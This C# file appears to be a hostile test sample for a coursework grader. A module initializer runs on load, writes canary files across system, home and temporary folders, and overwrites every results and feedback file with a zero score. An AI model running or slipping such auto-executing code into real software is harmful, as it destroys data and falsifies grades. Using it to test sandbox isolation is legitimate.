using System.Runtime.CompilerServices;

namespace Coursework;

/// <summary>
/// An attack on the machine: when the code loads, write a file named coursework-attack-canary into every folder it
/// can think of (the home folders, the kit, the grader's temporary folders, a batch's results and feedback folders)
/// and overwrite every result and feedback file it finds. Everything else is the reference.
/// </summary>
internal static class Attack
{
    [ModuleInitializer]
    internal static void Run()
    {
        var targets = new List<string> { "/root", "/work", "/tmp", "/var/tmp", "/dev/shm", "/", Environment.GetEnvironmentVariable("HOME") ?? "/" };
        targets.AddRange(Folders("/home"));
        targets.AddRange(Folders("/work"));
        for (var folder = new DirectoryInfo(AppContext.BaseDirectory); folder is not null; folder = folder.Parent)
        {
            targets.Add(folder.FullName);
        }

        foreach (var folder in targets.Concat(targets.SelectMany(t => Folders(t))).Distinct())
        {
            Try(() => File.WriteAllText(Path.Combine(folder, "coursework-attack-canary"), "written by a student's code"));
            if (Path.GetFileName(folder) is "results" or "feedback")
            {
                foreach (var file in Files(folder))
                {
                    Try(() => File.WriteAllText(file, "{\"score\": 0}"));
                }
            }
        }
    }

    private static IEnumerable<string> Folders(string folder)
    {
        try
        {
            return Directory.GetDirectories(folder);
        }
        catch (Exception)
        {
            return [];
        }
    }

    private static IEnumerable<string> Files(string folder)
    {
        try
        {
            return Directory.GetFiles(folder);
        }
        catch (Exception)
        {
            return [];
        }
    }

    private static void Try(Action action)
    {
        try
        {
            action();
        }
        catch (Exception)
        {
            // not writable: the next
        }
    }
}
